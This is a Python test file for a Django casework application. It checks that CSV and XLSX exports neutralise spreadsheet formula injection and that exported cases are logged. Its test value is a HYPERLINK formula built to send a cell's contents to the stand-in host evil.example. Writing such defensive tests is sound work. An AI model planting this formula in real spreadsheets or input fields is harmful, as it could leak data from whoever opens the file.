"""Exports neutralise formulas: a name a user typed never runs in the supervisors' XLSX or CSV."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from operations.reports import Table, neutralise_formula, to_csv, to_xlsx

from .test_views import QUERY, csv_rows, get

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Details")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 211 1234", "'+49 211 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Müller", "Müller"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_text_that_would_run_as_a_formula_gets_a_leading_apostrophe(value, expected):
    assert neutralise_formula(value) == expected


def test_xlsx_stores_every_text_as_text_never_as_a_formula():
    table = Table("workload", "Workload", ["Caseworker", "Open"], [[EVIL, 3], ["-x", -2]])
    sheet = load_workbook(io.BytesIO(to_xlsx(table))).active
    cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
    assert cells["A3"].data_type == "s"
    assert cells["A3"].value == EVIL  # shown as written …
    assert cells["A3"].quotePrefix  # … and stays text when edited
    assert cells["B4"].value == -2 and cells["B4"].data_type == "n"
    assert not any(cell.data_type == "f" for cell in cells.values())


def test_csv_cells_start_with_an_apostrophe():
    table = Table("workload", "Workload", ["Caseworker", "Open"], [[EVIL, 3]])
    assert f"'{EVIL}".replace('"', '""') in to_csv(table)


@pytest.mark.django_db
def test_a_caseworker_named_like_a_formula_is_plain_text_in_both_exports(client, office):
    worker = office.caseworker_a
    worker.first_name, worker.last_name = EVIL, ""
    worker.save()
    url = reverse("operations:export", args=["workload", "csv"])
    rows = csv_rows(get(client, office.supervisor_a, url, QUERY))
    names = [row[0] for row in rows[1:]]
    assert f"'{EVIL}" in names
    assert EVIL not in names

    url = reverse("operations:export", args=["workload", "xlsx"])
    response = get(client, office.supervisor_a, url, QUERY)
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == EVIL]
    assert cells and all(cell.data_type == "s" for cell in cells)


@pytest.mark.django_db
def test_an_export_of_the_oldest_cases_logs_each_case_it_lists(client, office):
    from casework.models import CaseAccessLog

    url = reverse("operations:export", args=["oldest", "csv"])
    rows = csv_rows(get(client, office.supervisor_a, url, QUERY))
    listed = {row[0] for row in rows[1:]}
    logged = set(
        CaseAccessLog.objects.filter(user=office.supervisor_a, route="export").values_list(
            "case__file_number", flat=True
        )
    )
    assert listed and logged == listed
